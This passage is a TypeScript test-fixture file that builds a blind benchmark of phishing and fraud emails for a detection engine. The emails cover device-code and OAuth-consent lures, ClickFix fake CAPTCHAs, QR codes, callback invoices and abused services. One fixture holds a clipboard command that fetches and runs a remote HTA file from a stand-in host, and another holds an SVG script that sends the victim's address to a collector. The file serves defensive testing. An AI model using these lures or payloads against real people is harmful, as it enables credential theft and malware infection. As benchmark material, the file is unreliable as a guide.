// A seventh blind batch of hand-written phishing and fraud (2025–2026), written before reading any
// detection code, to measure the engine on mail nobody tuned it to. Its weight is on the year's
// trends: device-code and OAuth-consent phishing (the real Microsoft and Google pages, the
// attacker's app), "ClickFix" fake CAPTCHAs that ask the reader to paste a command into Run,
// calendar invitations carrying the link, QR codes in PDFs and pictures, HTML and SVG
// attachments, callback invoices (PayPal's own invoice, Norton), real services abused to host
// the lure (Dropbox, Google Forms, Microsoft Forms, Notion), toll and parking fines,
// Booking.com host and guest lures, Meta copyright strikes, a hijacked reply thread changing
// the bank details, task jobs, pig butchering, sextortion and refund and tax-rebate lures; in
// English, Spanish, Brazilian and European Portuguese, German, French and Dutch.
// Delivery varies: throw-away domains, compromised businesses whose own DKIM passes, free mail,
// ESPs. Criminal infrastructure uses invented names and documentation IP ranges; real brand
// domains appear only where the brand is spoofed (failing DMARC) or its own service abused.
// About a third of the messages carry no trace fields at all (no Return-Path, Received or
// Authentication-Results), as a held-out set stripped of them would.
//
// Caught 33/50 when written (the misses are the `todo` cases); 48/50 with the rules written since
// and the learned layer, which never trained on this batch (npm run bench:cases).

import QRCode from 'qrcode';

import { imagePdf, qrGrey, shortcut, textPdf, zip } from './formats-builders.ts';
import { attachment, document, gmailBody, mail, multipart, plain } from './mail-builder.ts';
import type { AuthOutcome, Entity } from './mail-builder.ts';
import type { PhishingCase } from './phishing-mail-cases.ts';
import { sendgridHeaders } from './phishing-mail-fourth-cases.ts';
import { brevoHeaders } from './phishing-mail-third-cases.ts';

/** A throw-away domain registered for the campaign: it signs, but publishes no DMARC. */
const THROWAWAY: AuthOutcome = { dmarc: 'none' };
/** A brand's own domain in From, sent from the criminal's server: unsigned, DMARC fails. */
const SPOOFED: AuthOutcome = { dkim: 'none', spf: 'softfail', dmarc: 'fail' };

const GMAIL = { dkim: ['gmail.com:20230601'], relay: 'mail-sor-f41.google.com [209.85.220.41]' } as const;
const OUTLOOK = { dkim: ['outlook.com:selector1'], relay: 'EUR05-AM6-obe.outbound.protection.outlook.com [40.92.58.104]' } as const;

const TRACE_FIELDS = /^(return-path|received|authentication-results|arc-[a-z-]+|x-received):/i;

/** The message as a held-out set stripped of trace fields holds it: no Return-Path, Received or Authentication-Results. */
export function withoutTrace(raw: Uint8Array): Uint8Array {
  const text = new TextDecoder().decode(raw);
  const end = text.indexOf('\r\n\r\n');
  const fields: string[] = [];
  for (const line of text.slice(0, end).split('\r\n')) {
    if (/^[ \t]/.test(line) && fields.length > 0) fields[fields.length - 1] += `\r\n${line}`;
    else fields.push(line);
  }
  const kept = fields.filter((field) => !TRACE_FIELDS.test(field));
  return new TextEncoder().encode(`${kept.join('\r\n')}${text.slice(end)}`);
}

/** A one-page PDF with a few lines of text above a QR code (scanned with a phone, outside the mail filter). */
function qrPdf(url: string, lines: readonly string[]): Uint8Array {
  const { side, pixels } = qrGrey(url, 4);
  return imagePdf(`/Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8`, pixels, [], lines);
}

/** A QR code as the PNG picture quishing mail embeds. */
async function qrPng(url: string): Promise<Uint8Array> {
  return new Uint8Array(await QRCode.toBuffer(url, { type: 'png', scale: 5, margin: 4 }));
}

/** An inline picture referenced from the HTML by its Content-ID. */
function inlinePng(cid: string, name: string, bytes: Uint8Array): Entity {
  return {
    headers: [
      `Content-Type: image/png; name="${name}"`,
      'Content-Transfer-Encoding: base64',
      `Content-ID: <${cid}>`,
      `Content-Disposition: inline; filename="${name}"`,
    ],
    body: Buffer.from(bytes).toString('base64').replace(/.{76}/g, '$&\r\n'),
  };
}

/** A "verify you are human" page: the button copies a command to the clipboard and the steps say where to paste it. */
function fakeCaptchaPage(title: string, command: string): string {
  return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>${title}</title></head><body style="font-family:Arial;background:#f4f4f4">
<div style="width:340px;margin:80px auto;background:#fff;border:1px solid #ddd;padding:20px"><p><input type="checkbox" id="c"> I'm not a robot</p>
<div id="s" style="display:none"><b>Verification steps</b><ol><li>Press Windows + R</li><li>Press Ctrl + V</li><li>Press Enter</li></ol></div></div>
<script>document.getElementById("c").onclick=function(){navigator.clipboard.writeText(${JSON.stringify(command)});document.getElementById("s").style.display="block";};</script>
</body></html>`;
}

/** An SVG "remittance" picture whose script sends the browser to the collector with the victim's address. */
function svgRedirect(label: string, target: string, victim: string): string {
  return [
    '<?xml version="1.0" encoding="UTF-8"?>',
    '<svg xmlns="http://www.w3.org/2000/svg" width="480" height="140" viewBox="0 0 480 140">',
    `<rect width="480" height="140" fill="#ffffff" stroke="#cccccc"/><text x="20" y="74" font-family="Arial" font-size="16">${label}</text>`,
    `<script><![CDATA[var v="${Buffer.from(victim).toString('base64')}";setTimeout(function(){top.location.href=atob("${Buffer.from(target).toString('base64')}")+"?e="+v;},400);]]></script>`,
    '</svg>',
  ].join('\n');
}

/** A calendar invitation whose description carries the link (the invite lands in the calendar even when the mail is not opened). */
function invite(organizer: string, attendee: string, summary: string, start: string, description: string, url: string): string {
  return [
    'BEGIN:VCALENDAR',
    'PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN',
    'VERSION:2.0',
    'METHOD:REQUEST',
    'BEGIN:VEVENT',
    'UID:040000008200E00074C5B7101A82E0080000000010f3a5c2b1d4db01000000000000000010000000a7d4e3f1',
    `DTSTAMP:${start}`,
    `DTSTART:${start}`,
    `DTEND:${start.replace(/T(\d\d)/, (_, hour: string) => `T${String(Number(hour) + 1).padStart(2, '0')}`)}`,
    `SUMMARY:${summary}`,
    `ORGANIZER;CN="${organizer}":mailto:${organizer}`,
    `ATTENDEE;ROLE=REQ-PARTICIPANT;PARTSTAT=NEEDS-ACTION;RSVP=TRUE:mailto:${attendee}`,
    `DESCRIPTION:${description}\\n\\n${url}`,
    `URL:${url}`,
    `LOCATION:${url}`,
    'BEGIN:VALARM',
    'TRIGGER:-PT15M',
    'ACTION:DISPLAY',
    'DESCRIPTION:Reminder',
    'END:VALARM',
    'END:VEVENT',
    'END:VCALENDAR',
    '',
  ].join('\r\n');
}

const DOCUSIGN_QR = await qrPng('https://docs-esign-center.com/envelope/9f3a1c/?u=lmartin');

export const SEVENTH_CASES: readonly PhishingCase[] = [
  // ================================================================ device code and OAuth consent (en)
  {
    // Device-code phishing: the link is Microsoft's real device-login page; the code the
    // attacker generated hands them the victim's tokens. Sent from a consultancy's hijacked
    // Microsoft 365 mailbox, so its DKIM passes.
    name: 'Device code: "join the secure board briefing, enter code at microsoft.com/devicelogin" from a consultancy\'s hijacked mailbox',
    lang: 'en',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: mail({
      from: 'Daniel Whitford <dwhitford@ashbyadvisory.com>',
      to: 'c.nguyen@harbourlinefreight.com',
      subject: 'Secure Teams briefing - access code inside (expires in 15 min)',
      date: 'Tue, 11 Feb 2025 14:02:17 +0000',
      messageId: 'LO2P265MB5129A1F0C3D4E5F6A7B8C9D0E1F2A3B4@LO2P265MB5129.GBRP265.PROD.OUTLOOK.COM',
      dkim: ['ashbyadvisory.com:selector1', 'ashbyadvisory.onmicrosoft.com:selector1'],
      relay: 'GBR01-LO2-obe.outbound.protection.outlook.com [40.107.20.73]',
      body: document([
        'Hi,',
        'As discussed, the board briefing on the freight contract is held in a secured Teams room. Because you are outside our organisation, Microsoft requires a one-time device authorisation before you can join.',
        '1. Go to [https://microsoft.com/devicelogin](https://microsoft.com/devicelogin)',
        '2. Enter the code below and sign in with your work account',
        { code: 'KQ7ZP4M2X' },
        'The code expires 15 minutes after this email was sent. If it has expired, reply and I will send a new one.',
        'Kind regards,\nDaniel Whitford\nPartner, Ashby Advisory',
      ]),
    }),
  },
  {
    // The same trick from a throw-away domain posing as the IT desk, stripped of its trace fields.
    name: 'Device code: "Microsoft 365 session re-verification, code EH8T-4QZM" from a throw-away IT-desk domain, no trace fields',
    lang: 'en',
    lure: 'mailbox',
    expect: ['phishing'],
    raw: withoutTrace(
      mail({
        from: 'Microsoft 365 Admin <admin@m365-tenant-services.com>',
        to: 'p.shah@quarrybankmedical.co.uk',
        subject: 'Action needed: re-verify your Microsoft 365 session',
        date: 'Mon, 17 Mar 2025 08:44:51 +0000',
        messageId: '20250317084451.3c8e1a@m365-tenant-services.com',
        dkim: ['m365-tenant-services.com:default'],
        relay: 'mail.m365-tenant-services.com [203.0.113.19]',
        body: document([
          { heading: 'Session re-verification required' },
          'Your organisation has enabled continuous access evaluation. Your current Outlook and Teams sessions will be signed out today unless you re-verify this device.',
          'Open the Microsoft device page and enter your verification code:',
          { code: 'EH8T-4QZM' },
          { button: 'Open microsoft.com/devicelogin', href: 'https://microsoft.com/devicelogin' },
          { small: 'Microsoft 365 Administration for quarrybankmedical.co.uk. This code is valid for 15 minutes.' },
        ]),
      }),
    ),
  },
  {
    // OAuth consent phishing: the link is Microsoft's real authorize endpoint for the
    // attacker's app, asking for mail and files with offline access.
    name: 'OAuth consent: "Acrobat Sign: contract awaiting signature" links to Microsoft\'s authorize page for an app wanting Mail.ReadWrite',
    lang: 'en',
    lure: 'e-signature',
    expect: ['phishing'],
    raw: mail({
      from: 'Acrobat Sign <sign@acrobat-sign-docs.com>',
      to: 'l.fischer@northgateplastics.com',
      subject: 'Signature requested: Master Services Agreement 2025 - Northgate Plastics',
      date: 'Wed, 26 Feb 2025 10:15:03 +0000',
      messageId: '20250226101503.8a7f@acrobat-sign-docs.com',
      dkim: ['acrobat-sign-docs.com:s1'],
      relay: 'smtp.acrobat-sign-docs.com [198.51.100.212]',
      auth: THROWAWAY,
      body: document([
        { heading: 'Master Services Agreement 2025 - Northgate Plastics' },
        'Procurement Team has sent you a document to review and sign. Sign in with your Microsoft account to open the secure document.',
        {
          button: 'Review and sign',
          href: 'https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=4b9e2c1a-7d3f-4e8a-9b2c-5f1e6d7a8b9c&response_type=code&redirect_uri=https%3A%2F%2Facrobat-sign-docs.com%2Fauth%2Fcallback&scope=offline_access%20Mail.ReadWrite%20Files.ReadWrite.All%20User.Read&prompt=consent&state=bC5maXNjaGVy',
        },
        { small: 'Powered by Adobe Acrobat Sign. Do not forward this email: the link is unique to you.' },
      ]),
    }),
  },
  {
    // Google's consent page for an app whose redirect goes to the attacker, asking for full
    // Gmail access; sent through SendGrid.
    name: 'OAuth consent: "approve DocuSign Secure Viewer for your Google Workspace" to Google\'s auth page with the full-mail scope, via SendGrid',
    lang: 'en',
    lure: 'e-signature',
    expect: ['phishing'],
    raw: mail({
      from: 'Document Services <notify@secureviewer-docs.net>',
      to: 'amelia.ross@brookfieldarchitects.com',
      subject: 'Amelia, 2 documents are waiting - approve the secure viewer to open',
      date: 'Thu, 3 Apr 2025 15:37:29 +0000',
      messageId: 'Xy7Kq2LmTnR4vB9cP1sZ@geopod-ismtpd-12',
      dkim: ['secureviewer-docs.net:s1', 'sendgrid.net:smtpapi'],
      returnPath: 'bounces+48812731-a1c2-amelia.ross=brookfieldarchitects.com@em8841.secureviewer-docs.net',
      relay: 'o4.ptr6412.secureviewer-docs.net [149.72.33.18]',
      auth: THROWAWAY,
      headers: sendgridHeaders('Xy7Kq2LmTnR4vB9cP1sZaQ8wE3rT6yU0iO5pA2sD4fG'),
      body: document([
        'Hello Amelia,',
        'Two documents were shared with you for signature: "Fee proposal - Riverside" and "NDA - Brookfield". To protect confidential files, they open only in DocuSign Secure Viewer connected to your Google Workspace account.',
        {
          button: 'Approve and open documents',
          href: 'https://accounts.google.com/o/oauth2/v2/auth?client_id=884120391827-k2m4n6p8r0t2v4x6z8b0d2f4h6j8l0n2.apps.googleusercontent.com&redirect_uri=https%3A%2F%2Fsecureviewer-docs.net%2Foauth2&response_type=code&scope=https%3A%2F%2Fmail.google.com%2F%20https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fdrive&access_type=offline&prompt=consent',
        },
        { small: 'You received this because a document was shared with amelia.ross@brookfieldarchitects.com.' },
      ]),
    }),
  },
  // ================================================================ ClickFix, calendar, QR, HTML and SVG (en)
  {
    // Booking.com host lure with the ClickFix steps in the mail itself: "verify you are not a
    // robot" by pasting a command into Run. Stripped of trace fields.
    name: 'ClickFix: Booking.com "guest complaint, verify you are human: Win+R, Ctrl+V, Enter" from a throw-away domain, no trace fields',
    lang: 'en',
    lure: 'account-alert',
    expect: ['phishing', 'malware'],
    raw: withoutTrace(
      mail({
        from: 'Booking.com Partner Help <partner-help@extranet-guestreview.com>',
        to: 'reservations@seaviewguesthouse.co.uk',
        subject: 'Guest complaint #4471902 - response required within 24 hours',
        date: 'Fri, 7 Mar 2025 19:22:40 +0000',
        messageId: '20250307192240.a81c@extranet-guestreview.com',
        dkim: ['extranet-guestreview.com:default'],
        relay: 'mx.extranet-guestreview.com [203.0.113.150]',
        body: document([
          { heading: 'A guest has filed a complaint about your property' },
          'Reservation 4471902 (2 nights, 14–16 March). The guest reports an allergic reaction and has attached photos. If you do not respond within 24 hours the complaint will be published and your ranking lowered.',
          { button: 'View the complaint', href: 'https://extranet-guestreview.com/complaint/4471902' },
          'For security, the page asks you to confirm you are not a robot: press Windows + R, press Ctrl + V, then press Enter. The verification runs automatically.',
          { small: 'Booking.com B.V., Herengracht 597, Amsterdam' },
        ]),
      }),
    ),
  },
  {
    // ClickFix in an HTML attachment: a fake CAPTCHA that copies an mshta command; sent from
    // a small firm's hijacked mailbox.
    name: 'ClickFix: "payment remittance, verify to view" with an HTML fake CAPTCHA copying an mshta command, from a hijacked mailbox',
    lang: 'en',
    lure: 'html-attachment',
    expect: ['phishing', 'malware'],
    raw: mail({
      from: 'Accounts <accounts@tristatepumpservice.com>',
      to: 'ap@oakridgemetals.com',
      subject: 'Payment remittance 03/14 - INV 77120',
      date: 'Fri, 14 Mar 2025 11:05:12 -0500',
      messageId: 'c93b1f2e7a4d4a0b8e1f@tristatepumpservice.com',
      dkim: ['tristatepumpservice.com:default'],
      relay: 'mail.tristatepumpservice.com [198.51.100.77]',
      body: multipart('mixed', [
        plain(
          'Hello,\n\nPlease find attached the remittance for INV 77120. Open the attachment and complete the verification to view.\n\nThanks,\nAccounts\nTri-State Pump Service',
        ),
        attachment(
          'Remittance_INV77120.html',
          'text/html',
          fakeCaptchaPage('Verify you are human', 'mshta https://cdn-check-human.top/v/77120.hta # Cloudflare verification ID 77120'),
        ),
      ]),
    }),
  },
  {
    // A calendar invitation whose description and location carry the kit link.
    name: 'Calendar invite: "Q1 compensation review" .ics with the link in description and location, from a throw-away domain',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'HR Calendar <calendar@people-review-portal.com>',
      to: 'j.alvarez@summitridgeinsurance.com',
      subject: 'Invitation: Q1 Compensation Review - Jorge Alvarez @ Thu Mar 20, 2025 10am',
      date: 'Mon, 17 Mar 2025 13:48:33 +0000',
      messageId: 'cal-20250317134833-5b1e@people-review-portal.com',
      dkim: ['people-review-portal.com:default'],
      relay: 'mail.people-review-portal.com [203.0.113.61]',
      auth: THROWAWAY,
      body: multipart('mixed', [
        multipart('alternative', [
          plain(
            'You have been invited to: Q1 Compensation Review - Jorge Alvarez\nThursday 20 March 2025, 10:00–11:00\n\nPlease review your updated salary letter before the meeting:\nhttps://people-review-portal.com/comp/letter?id=j.alvarez\n\nAccept | Decline | Tentative',
          ),
          {
            headers: ['Content-Type: text/calendar; charset="UTF-8"; method=REQUEST', 'Content-Transfer-Encoding: 7bit'],
            body: invite(
              'calendar@people-review-portal.com',
              'j.alvarez@summitridgeinsurance.com',
              'Q1 Compensation Review - Jorge Alvarez',
              '20250320T100000Z',
              'Please review your updated salary letter and bonus statement before the meeting (sign in with your work account)',
              'https://people-review-portal.com/comp/letter?id=j.alvarez',
            ),
          },
        ]),
        attachment(
          'invite.ics',
          'application/ics',
          invite(
            'calendar@people-review-portal.com',
            'j.alvarez@summitridgeinsurance.com',
            'Q1 Compensation Review - Jorge Alvarez',
            '20250320T100000Z',
            'Please review your updated salary letter and bonus statement before the meeting (sign in with your work account)',
            'https://people-review-portal.com/comp/letter?id=j.alvarez',
          ),
        ),
      ]),
    }),
  },
  {
    // Quishing: "HR" at the recipient's own domain asks for MFA re-enrolment via a QR code in
    // a PDF. Stripped of trace fields, so nothing shows the spoof.
    name: 'QR in PDF: "MFA re-enrollment required by Friday" from the recipient\'s own domain, QR to the kit, no trace fields',
    lang: 'en',
    lure: 'qr-code',
    expect: ['phishing'],
    raw: withoutTrace(
      mail({
        from: 'Human Resources <hr@westbrookcu.org>',
        to: 'k.daniels@westbrookcu.org',
        subject: 'ACTION REQUIRED: Multi-Factor Authentication re-enrollment (deadline Friday)',
        date: 'Wed, 9 Apr 2025 07:31:19 -0400',
        messageId: '20250409113119.77f2a1@westbrookcu.org',
        relay: 'vps-4471.hostingnode.net [192.0.2.88]',
        auth: SPOOFED,
        body: multipart('mixed', [
          plain(
            'Dear Employee,\n\nAs part of our annual security compliance, all staff must re-enroll their multi-factor authentication by Friday. Accounts not re-enrolled will be locked.\n\nPlease see the attached document and scan the QR code with your phone camera.\n\nHuman Resources',
          ),
          attachment(
            'MFA_Reenrollment_kdaniels.pdf',
            'application/pdf',
            qrPdf('https://mfa-reenroll.westbrook-cu.help/?e=k.daniels', [
              'Westbrook Credit Union - Security Compliance',
              'Scan the code below with your mobile phone to re-enroll.',
              'Deadline: Friday 11 April 2025',
            ]),
          ),
        ]),
      }),
    ),
  },
  {
    // Quishing with an inline PNG: a "DocuSign" salary-adjustment notice, the QR the only way in.
    name: 'QR picture: DocuSign-styled "salary adjustment to review" with only an inline QR code, from a throw-away domain via Brevo',
    lang: 'en',
    lure: 'qr-code',
    expect: ['phishing'],
    raw: mail({
      from: 'DocuSign via Payroll <payroll@esign-hrnotice.com>',
      to: 'l.martin@greystonehotels.com',
      subject: 'Please DocuSign: 2025 Salary Adjustment - L. Martin',
      date: 'Tue, 22 Apr 2025 09:10:55 +0000',
      messageId: '202504220910.18822717123@smtp-relay.mailin.fr',
      dkim: ['esign-hrnotice.com:mail', 'sendibm2.com:mail'],
      returnPath: 'bounces-18822717-l.martin=greystonehotels.com@sendibm2.com',
      relay: 'dispatch-4a.mailin.fr [185.41.28.109]',
      auth: THROWAWAY,
      headers: brevoHeaders('7740231', '18822717'),
      body: multipart('related', [
        {
          headers: ['Content-Type: text/html; charset="UTF-8"', 'Content-Transfer-Encoding: 7bit'],
          body: '<html><body style="font-family:Arial"><div style="background:#1e4ca1;color:#fff;padding:16px;font-size:18px">DocuSign</div><p>Your 2025 salary adjustment letter is ready for review and signature.</p><p>Scan the code with your phone camera to open the document.</p><img src="cid:qr77" width="200" height="200" alt="QR"><p style="font-size:11px;color:#666">Do not share this code. It is linked to your account.</p></body></html>',
        },
        inlinePng('qr77', 'qr.png', DOCUSIGN_QR),
      ]),
    }),
  },
  {
    // An SVG attachment whose script redirects with the victim's address, from a hijacked
    // construction firm's mailbox.
    name: 'SVG attachment: "remittance advice" SVG with a redirect script, from a construction firm\'s hijacked mailbox',
    lang: 'en',
    lure: 'html-attachment',
    expect: ['phishing', 'malware'],
    raw: mail({
      from: 'Sarah Kelley <skelley@bluestoneconstruction.net>',
      to: 'finance@parkviewdental.com',
      subject: 'Remittance Advice - ACH payment 04/02/2025',
      date: 'Wed, 2 Apr 2025 16:44:09 -0500',
      messageId: 'SA1PR19MB5571E2B7C8D9A0B1C2D3E4F5A6B7C8D9@SA1PR19MB5571.namprd19.prod.outlook.com',
      dkim: ['bluestoneconstruction.net:selector1'],
      relay: 'NAM10-DM6-obe.outbound.protection.outlook.com [40.107.93.54]',
      body: multipart('mixed', [
        plain(
          'Good afternoon,\n\nAttached is the remittance advice for the ACH payment sent today. Please confirm receipt.\n\nThank you,\nSarah Kelley\nAccounts Payable\nBluestone Construction',
        ),
        attachment(
          'ACH_Remittance_0402.svg',
          'image/svg+xml',
          svgRedirect('Loading remittance document…', 'https://remit-docs.pages-view.online/ach/', 'finance@parkviewdental.com'),
        ),
      ]),
    }),
  },
  // ================================================================ callback and abused services (en)
  {
    // PayPal's own invoice feature: the note from the "merchant" is the callback lure; PayPal signs it.
    name: 'PayPal invoice abused: genuine PayPal mail whose merchant note says "$749.99 Bitcoin purchase, call +1 (888) 555-0199 to cancel"',
    lang: 'en',
    lure: 'callback',
    expect: ['fraud', 'phishing'],
    raw: mail({
      from: 'service@paypal.com <service@paypal.com>',
      to: 'gary.holt55@yahoo.com',
      subject: 'You have a new invoice from Billing Support Dept',
      date: 'Sat, 8 Feb 2025 02:18:41 -0800',
      messageId: 'AQAAAb1xK2e9-7f3c-4a1b-8e2d-1c9f0a7b6d5e@paypal.com',
      dkim: ['paypal.com:pp-dkim1'],
      returnPath: 'service@paypal.com',
      relay: 'mx0.slc.paypal.com [173.0.84.226]',
      body: document([
        { heading: 'Billing Support Dept sent you an invoice for $749.99 USD' },
        {
          rows: [
            ['Invoice number', 'INV2-KX4T-9QPL-88WZ-3MRE'],
            ['Due on receipt', '$749.99 USD'],
          ],
        },
        'Seller note to customer: Your PayPal account has been charged $749.99 for a Bitcoin purchase. If you did not authorize this transaction, call our support line at +1 (888) 555-0199 within 24 hours to cancel and receive a full refund.',
        { button: 'View and Pay Invoice', href: 'https://www.paypal.com/invoice/p/#INV2KX4T9QPL88WZ3MRE' },
        {
          small:
            "Don't recognize this invoice? Report this invoice. PayPal is committed to preventing fraudulent emails. Copyright © 1999-2025 PayPal, Inc. All rights reserved.",
        },
      ]),
    }),
  },
  {
    // Norton callback: a free mailbox, a PDF "invoice" with the phone number, trace fields stripped.
    name: 'Callback: Norton "auto-renewal $389.95" PDF invoice from a Gmail mailbox, phone number to cancel, no trace fields',
    lang: 'en',
    lure: 'callback',
    expect: ['fraud', 'phishing'],
    raw: withoutTrace(
      mail({
        from: 'Norton LifeLock Billing <billing.desk.nl360@gmail.com>',
        to: 'margaret.o.brien@comcast.net',
        subject: 'Order Confirmation #NL-5520198 - Auto Renewal Successful',
        date: 'Thu, 13 Mar 2025 20:11:07 -0700',
        messageId: 'CAH7xq2Lk9mT4rN8vB3c_wZ5pQ1yX6sD0fG4hJ7k@mail.gmail.com',
        ...GMAIL,
        body: multipart('mixed', [
          gmailBody(
            'Dear Customer,\n\nThank you for renewing your Norton 360 Deluxe subscription. Your payment of $389.95 has been processed and will appear on your statement within 24 hours.\n\nPlease find your invoice attached.\n\nIf you wish to cancel and claim a refund, contact our billing department at +1 (855) 555-0176.\n\nRegards,\nBilling Team',
          ),
          attachment(
            'Invoice_NL-5520198.pdf',
            'application/pdf',
            textPdf([
              'NortonLifeLock - INVOICE',
              'Order: NL-5520198   Date: 13/03/2025',
              'Product: Norton 360 Deluxe (5 devices) - 2 years',
              'Amount: $389.95   Payment: Auto-debit',
              'Not authorized? Call +1 (855) 555-0176 to cancel within 48 hours',
            ]),
          ),
        ]),
      }),
    ),
  },
  {
    // Dropbox's own share notice: "Accounts Payable" shares a remittance PDF with a stranger;
    // the PDF (on Dropbox) holds the link to the kit. Every check passes.
    name: 'Dropbox abused: genuine share notice "Accounts Payable shared Remittance_0425.pdf" from a stranger\'s account',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    todo: "suspicious/high: sender_reply_to_freemail, sender_reply_to_mismatch, content_payment_request, auth_results_missing, sender_platform_relay; a stranger calling himself 'Accounts Payable' shares a remittance PDF and asks to 'confirm your banking details', replies going to an Outlook.com mailbox",
    raw: mail({
      from: 'Accounts Payable via Dropbox <no-reply@dropbox.com>',
      to: 'billing@cedarvalleyhvac.com',
      replyTo: 'ap.dept.remit2025@outlook.com',
      subject: 'Accounts Payable shared "Remittance_0425.pdf" with you',
      date: 'Fri, 25 Apr 2025 17:06:30 +0000',
      messageId: '20250425170630.1.9b8f7e6d5c4b3a29@dropbox.com',
      dkim: ['dropbox.com:scph0123'],
      returnPath: 'bounces+1828391-c2a1-billing=cedarvalleyhvac.com@sendgrid.dropbox.com',
      relay: 'o1.sendgrid.dropbox.com [167.89.123.54]',
      body: document([
        { heading: 'Accounts Payable shared a file with you' },
        '"Payment for outstanding invoices released. Please review the remittance and confirm your banking details."',
        'Remittance_0425.pdf',
        { button: 'View file', href: 'https://www.dropbox.com/scl/fi/7x2k9q4m1p8t/Remittance_0425.pdf?rlkey=q8w2e4r6t8y0u2i4o6p8a0s2d&dl=0' },
        { small: 'Enjoy! The Dropbox team. Dropbox, Inc., PO Box 77767, San Francisco, CA 94107' },
      ]),
    }),
  },
  {
    // Google Forms as the collector: a "mailbox deactivation" form asking for the password.
    name: 'Google Forms abused: "mailbox deactivation request received, cancel by verifying" from a throw-away domain, form on docs.google.com',
    lang: 'en',
    lure: 'mailbox',
    expect: ['phishing'],
    raw: mail({
      from: 'Email Support Team <support@webmail-accountcenter.net>',
      to: 'rhonda.mills@lakecountyschools.org',
      subject: 'Deactivation request received for rhonda.mills@lakecountyschools.org',
      date: 'Mon, 5 May 2025 06:55:21 +0000',
      messageId: '20250505065521.2a9d4e@webmail-accountcenter.net',
      dkim: ['webmail-accountcenter.net:default'],
      relay: 'server1.webmail-accountcenter.net [198.51.100.23]',
      auth: THROWAWAY,
      body: document([
        'We received a request to deactivate your email account rhonda.mills@lakecountyschools.org. This request will be processed within 12 hours.',
        'If you did not make this request, cancel it immediately by verifying your account details on the form below.',
        { button: 'Cancel deactivation', href: 'https://docs.google.com/forms/d/e/1FAIpQLSc9x8Qv2Lm4Tn7Rk1Pz3Wy6Hd5Fj0As2Dq8Ge4Bt7Nc/viewform' },
        { small: 'Email Support Team. Failure to verify will result in permanent loss of your messages.' },
      ]),
    }),
  },
  {
    // Microsoft Forms as the collector: a payroll "direct deposit update" from a school
    // district's hijacked mailbox.
    name: 'Microsoft Forms abused: "update your direct deposit before payroll closes" from a school district\'s hijacked mailbox',
    lang: 'en',
    lure: 'bank',
    expect: ['phishing'],
    raw: mail({
      from: 'Payroll Office <payroll@greenfieldusd.org>',
      to: 'staff-all@greenfieldusd.org',
      subject: 'Direct Deposit Update - Required before April payroll',
      date: 'Tue, 15 Apr 2025 12:30:02 -0700',
      messageId: 'BYAPR08MB6021F1E2D3C4B5A6978899AABBCCDDEE@BYAPR08MB6021.namprd08.prod.outlook.com',
      dkim: ['greenfieldusd.org:selector1'],
      relay: 'NAM04-BN8-obe.outbound.protection.outlook.com [40.107.100.128]',
      body: document([
        'All Staff,',
        'Due to the migration to our new payroll provider, all employees must re-confirm their direct deposit information before the April payroll closes on Friday. Employees who do not complete the form will receive a paper check, which may be delayed.',
        {
          button: 'Complete Direct Deposit Form',
          href: 'https://forms.office.com/Pages/ResponsePage.aspx?id=Qm7t2Lk9vX4pN8rB3cW5zA1yS6dF0gH4jK7lP2oI9uY8tR5eW3q',
        },
        'You will need your bank name, routing number, account number and your district login to verify your identity.',
        'Payroll Office\nGreenfield Unified School District',
      ]),
    }),
  },
  {
    // Notion page as the hop: a "proposal" shared from a hijacked agency mailbox.
    name: 'Notion abused: "shared the proposal with you on Notion" from a marketing agency\'s hijacked mailbox, page on notion.site',
    lang: 'en',
    lure: 'file-share',
    expect: ['phishing'],
    raw: mail({
      from: 'Olivia Grant <olivia@brightpathcreative.co>',
      to: 'mark.ellison@hollandfoods.com',
      subject: 'Brightpath x Holland Foods - proposal & pricing',
      date: 'Thu, 8 May 2025 10:12:48 +0100',
      messageId: 'CAKx9pT2mN4qR7vB1cW8zL3yS5dF0gH6jK@mail.gmail.com',
      dkim: ['brightpathcreative-co.20230601.gappssmtp.com:20230601'],
      relay: 'mail-wr1-f54.google.com [209.85.221.54]',
      body: gmailBody(
        'Hi Mark,\n\nFollowing our call, I have put the proposal and the pricing breakdown in our Notion workspace. The document is protected, you can open it with your Microsoft login:\n\n[Brightpath_HollandFoods_Proposal](https://brightpath-proposals.notion.site/Holland-Foods-Proposal-1c8e2f4a6b8d4e0f9a1b3c5d7e9f1a2b)\n\nLet me know your thoughts by Friday if possible.\n\nBest,\nOlivia\n\nOlivia Grant | Account Director\nBrightpath Creative',
      ),
    }),
  },
  // ================================================================ fines, hosts, social (en)
  {
    // Toll fine, the smishing text sent as mail; trace fields stripped.
    name: 'Toll: E-ZPass "unpaid toll balance $6.89, pay to avoid $50 late fee" from a throw-away domain, no trace fields',
    lang: 'en',
    lure: 'authority',
    expect: ['phishing', 'fraud'],
    raw: withoutTrace(
      mail({
        from: 'E-ZPass Toll Services <notice@ezpass-tollnotice.com>',
        to: 'bwalker1987@aol.com',
        subject: 'Final Notice: Unpaid Toll Balance',
        date: 'Tue, 20 May 2025 21:40:12 +0000',
        messageId: '20250520214012.5f1c@ezpass-tollnotice.com',
        dkim: ['ezpass-tollnotice.com:default'],
        relay: 'smtp.ezpass-tollnotice.com [203.0.113.202]',
        body: document([
          { heading: 'E-ZPass: Outstanding Toll Notice' },
          'Our records show an unpaid toll balance of $6.89 on your account. To avoid a late fee of $50.00 and suspension of your vehicle registration, please pay the balance by May 22.',
          { button: 'Pay Now', href: 'https://ezpass-tollnotice.com/pay?ref=NY88210' },
          { small: 'E-ZPass Customer Service Center. Please do not reply to this email.' },
        ]),
      }),
    ),
  },
  {
    // Meta copyright strike from a Gmail mailbox, appeal on a Vercel app; stripped.
    name: 'Meta copyright strike: "your page will be disabled in 48 hours, submit an appeal" from Gmail, appeal on vercel.app, no trace fields',
    lang: 'en',
    lure: 'account-alert',
    expect: ['phishing'],
    raw: withoutTrace(
      mail({
        from: 'Meta Pro Support <metaprosupport.case8812@gmail.com>',
        to: 'hello@lunabakeryatx.com',
        subject: 'Copyright infringement notice for your Page - Case #881204417',
        date: 'Sun, 1 Jun 2025 04:17:36 +0000',
        messageId: 'CAFx7Lq2mT9kR4nV8bC3w_Z5pY1sX6dQ0gH4jK7l@mail.gmail.com',
        ...GMAIL,
        body: document([
